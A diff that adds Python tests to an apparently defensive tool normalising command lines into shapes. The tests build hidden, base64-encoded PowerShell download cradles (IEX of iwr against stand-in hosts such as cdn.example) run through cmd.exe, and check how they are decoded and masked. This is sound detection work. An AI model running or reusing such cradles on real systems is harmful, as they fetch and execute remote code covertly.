@@ -37,3 +37,26 @@ def test_an_undecodable_payload_and_a_huge_line_are_bounded():
     assert command_shape("powershell -enc AAAAAAAAAAAAAAAAAAAAAAA!") .startswith("powershell -enc")
     assert len(command_shape("cmd /c echo " + "a " * 10_000)) <= SHAPE_LIMIT
     assert len(command_shape(_encoded("write-host " + "b " * 10_000))) <= SHAPE_LIMIT
+
+
+def _cmd(script: str, line: str = "cmd.exe /c powershell -nop -w hidden -enc {}") -> str:
+    return line.format(base64.b64encode(script.encode("utf-16le")).decode())
+
+
+def test_a_cmd_line_running_an_encoded_cradle_shares_its_decoded_script_shape():
+    """INGF #4: cmd's own line kept the base64 word, masked to ``*``: two servers' cradles were one shape."""
+    one = command_shape(_cmd("IEX (iwr 'http://cdn.example/i/AbCdEfGh.png').Content"), "ws-0001")
+    two = command_shape(_cmd("IEX (iwr 'http://cdn.example/i/QrStUvWx.png?u=ws-0002').Content"), "ws-0002")
+    assert one == two == "cmd.exe /c powershell -nop -w hidden -enc <enc: iex (iwr 'http://cdn.example/*.png').content>"
+    other = command_shape(_cmd("IEX (iwr 'http://intranet.example/i/a.png').Content"), "ws-0003")
+    assert other != one
+
+
+def test_comspec_start_and_nested_quotes_are_read_as_cmd_reads_them():
+    script = "IEX (iwr 'http://cdn.example/i/a.png').Content"
+    assert command_shape(_cmd(script, "%COMSPEC% /b /c start /b /min powershell -nop -enc {}")) == (
+        "%comspec% /b /c start /b /min powershell -nop -enc <enc: iex (iwr 'http://cdn.example/*.png').content>")
+    assert command_shape(_cmd(script, 'cmd /k ""powershell" -enc "{}""')) == (
+        "cmd /k \"\"powershell\" -enc \"<enc: iex (iwr 'http://cdn.example/*.png').content>\"\"")
+    # a cmd line that only echoes the switch runs no PowerShell: its word is masked as before
+    assert command_shape(_cmd(script, "cmd /c echo powershell -enc {}")).startswith("cmd /c echo powershell -enc *")
